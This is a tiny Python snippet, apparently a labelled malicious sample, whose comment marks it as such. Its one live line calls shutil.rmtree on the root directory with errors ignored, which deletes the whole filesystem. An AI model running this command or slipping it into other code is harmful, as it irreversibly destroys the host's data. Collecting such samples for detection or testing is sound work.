# Malicious: shutil.rmtree('/') deletes the whole filesystem; irreversible destruction of the host.
import shutil

shutil.rmtree("/", ignore_errors=True)
